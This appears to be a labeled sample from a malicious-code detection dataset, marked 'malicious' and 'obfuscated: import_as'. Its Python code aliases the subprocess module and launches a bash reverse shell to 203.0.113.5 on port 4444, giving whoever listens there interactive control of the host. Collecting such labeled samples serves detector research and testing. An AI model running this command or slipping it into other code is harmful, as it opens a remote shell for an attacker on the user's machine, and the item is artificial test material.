# label: malicious; obfuscated: import_as
import subprocess as sp
r = sp.Popen
r("bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'", shell=True)
